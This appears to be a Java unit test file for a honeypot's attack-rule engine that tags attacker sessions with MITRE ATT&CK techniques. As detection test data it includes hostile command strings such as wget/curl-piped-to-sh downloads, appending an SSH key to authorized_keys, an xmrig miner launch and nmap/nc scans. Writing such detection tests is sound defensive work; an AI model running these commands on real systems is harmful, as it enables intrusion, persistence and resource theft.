package dev.arena.threats.enrich;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.arena.threats.ingest.EventKind;
import dev.arena.threats.ingest.ThreatEvent;
import java.time.Instant;
import java.util.EnumMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.yaml.snakeyaml.Yaml;

class AttackRulesUnitTests {

    private final AttackRules rules = AttackRules.load("threats/attack-rules.yaml");

    /** Counts like a session would keep them, for one source. */
    static final class Counts implements AttackRules.SessionCounts {
        final Map<EventKind, Integer> kinds = new EnumMap<>(EventKind.class);
        final Set<String> passwords = new HashSet<>();
        final Set<String> usernames = new HashSet<>();
        final Set<String> fired = new HashSet<>();

        List<String> add(AttackRules rules, ThreatEvent event) {
            kinds.merge(event.kind(), 1, Integer::sum);
            if (event.password() != null) {
                passwords.add(event.password());
            }
            if (event.username() != null) {
                usernames.add(event.username());
            }
            List<AttackRules.Rule> matched = rules.match(event, this);
            matched.stream().filter(AttackRules.Rule::perSession).forEach(r -> fired.add(r.id()));
            return matched.stream().map(AttackRules.Rule::technique).toList();
        }

        public int count(EventKind kind) {
            return kinds.getOrDefault(kind, 0);
        }

        public int distinct(String field) {
            return field.equals("password") ? passwords.size() : field.equals("username") ? usernames.size() : 0;
        }

        public boolean fired(String ruleId) {
            return fired.contains(ruleId);
        }
    }

    static ThreatEvent event(EventKind kind, @Nullable String username, @Nullable String password, @Nullable String command,
                             @Nullable String url) {
        return new ThreatEvent(Instant.parse("2026-11-20T10:00:00Z"), "198.51.100.7", kind, kind.wireName(), "s1", null,
                username, password, command, url, null, null, null);
    }

    static ThreatEvent command(String command) {
        return event(EventKind.COMMAND, null, null, command, null);
    }

    private List<String> techniquesOf(String command) {
        Counts counts = new Counts();
        counts.kinds.put(EventKind.COMMAND, 1);
        counts.fired.add("unix-shell");
        return counts.add(rules, command(command));
    }

    @Test
    void theRulesFileIsVersioned() {
        assertThat(rules.version()).isEqualTo("2026.11.2");
        assertThat(rules.techniqueName("T1105")).isEqualTo("Ingress Tool Transfer");
    }

    @Test
    void commandsAreMatchedPerEvent() {
        assertThat(techniquesOf("cd /tmp; wget http://198.51.100.9/x.sh")).containsExactly("T1105");
        assertThat(techniquesOf("curl -fsSL http://x/y | sh")).containsExactlyInAnyOrder("T1059.004", "T1105");
        assertThat(techniquesOf("nmap -sS 10.0.0.0/24")).containsExactly("T1046");
        assertThat(techniquesOf("nc -vz 10.0.0.5 1-1024")).containsExactly("T1046");
        assertThat(techniquesOf("uname -a")).containsExactly("T1082");
        assertThat(techniquesOf("cat /proc/cpuinfo")).containsExactly("T1082");
        assertThat(techniquesOf("crontab -l")).containsExactly("T1053.003");
        assertThat(techniquesOf("echo ssh-rsa AAAA >> ~/.ssh/authorized_keys")).containsExactly("T1098.004");
        assertThat(techniquesOf("./xmrig -o stratum+tcp://pool:3333")).containsExactly("T1496");
        assertThat(techniquesOf("ls -la")).isEmpty();
        assertThat(techniquesOf("unamed")).as("words, not substrings").isEmpty();
    }

    @Test
    void theFirstCommandOfASessionIsAUnixShellOnce() {
        Counts session = new Counts();

        assertThat(session.add(rules, command("ls"))).containsExactly("T1059.004");
        assertThat(session.add(rules, command("pwd"))).isEmpty();
    }

    @Test
    void bruteForceFiresOnceOnTheFailureThatReachesTheThreshold() {
        Counts session = new Counts();
        List<List<String>> perFailure = new java.util.ArrayList<>();
        for (int i = 1; i <= 7; i++) {
            perFailure.add(session.add(rules, event(EventKind.LOGIN_FAILED, "root", "pw" + i, null, null)));
        }

        assertThat(perFailure.get(1)).isEmpty();
        assertThat(perFailure.get(2)).containsExactly("T1110.001");
        assertThat(perFailure.get(4)).containsExactly("T1110");
        assertThat(perFailure.get(5)).isEmpty();
        assertThat(perFailure.get(6)).isEmpty();
    }

    @Test
    void aSuccessAfterFailuresIsAValidAccount() {
        Counts guessed = new Counts();
        for (int i = 0; i < 3; i++) {
            guessed.add(rules, event(EventKind.LOGIN_FAILED, "root", "same", null, null));
        }
        Counts knew = new Counts();

        assertThat(guessed.add(rules, event(EventKind.LOGIN_SUCCESS, "root", "right", null, null))).containsExactly("T1078");
        assertThat(knew.add(rules, event(EventKind.LOGIN_SUCCESS, "root", "right", null, null))).isEmpty();
    }

    @Test
    void downloadsAreIngressAndMinersAreResourceHijacking() {
        assertThat(new Counts().add(rules, event(EventKind.DOWNLOAD, null, null, null, "http://198.51.100.23/xmrig")))
                .containsExactlyInAnyOrder("T1105", "T1496");
    }

    @Test
    void repeatedSandboxLimitsAreDenialOfServiceOrResourceHijackingNotASingleOne() {
        Counts memory = new Counts();
        assertThat(memory.add(rules, event(EventKind.MEMORY_LIMIT, null, null, null, null))).isEmpty();
        assertThat(memory.add(rules, event(EventKind.MEMORY_LIMIT, null, null, null, null))).isEmpty();
        assertThat(memory.add(rules, event(EventKind.MEMORY_LIMIT, null, null, null, null))).containsExactly("T1499");
        assertThat(memory.fired).containsExactly("sandbox-memory-bombs");
        assertThat(memory.add(rules, event(EventKind.MEMORY_LIMIT, null, null, null, null))).as("once per session").isEmpty();

        Counts output = new Counts();
        for (int i = 0; i < 2; i++) {
            assertThat(output.add(rules, event(EventKind.OUTPUT_LIMIT, null, null, null, null))).isEmpty();
        }
        assertThat(output.add(rules, event(EventKind.OUTPUT_LIMIT, null, null, null, null))).containsExactly("T1499");
        assertThat(output.fired).containsExactly("sandbox-output-floods");

        Counts time = new Counts();
        for (int i = 0; i < 4; i++) {
            assertThat(time.add(rules, event(EventKind.TIME_LIMIT, null, null, null, null))).isEmpty();
        }
        assertThat(time.add(rules, event(EventKind.TIME_LIMIT, null, null, null, null))).containsExactly("T1496");
        assertThat(time.fired).containsExactly("sandbox-cpu-burn");
        assertThat(rules.techniqueName("T1499")).isEqualTo("Endpoint Denial of Service");
    }

    @Test
    void aMalformedRulesFileNamesTheRule() {
        assertThatThrownBy(() -> parse("""
                version: 1
                rules:
                  - {id: broken, technique: T1105, name: x, scope: event, kinds: [command], match: '(unclosed'}"""))
                .hasMessageContaining("'broken'").hasMessageContaining("regular expression");
        assertThatThrownBy(() -> parse("""
                version: 1
                rules:
                  - {id: wrong-id, technique: X1, name: x, scope: event, kinds: [command]}"""))
                .hasMessageContaining("'wrong-id'").hasMessageContaining("T1110");
        assertThatThrownBy(() -> parse("""
                version: 1
                rules:
                  - {id: no-kind, technique: T1110, name: x, scope: session, kinds: [teleport], count: 1}"""))
                .hasMessageContaining("unknown event kind 'teleport'");
        assertThatThrownBy(() -> parse("rules: []")).hasMessageContaining("version");
    }

    private static AttackRules parse(String yaml) {
        return AttackRules.parse(new Yaml().load(yaml));
    }
}
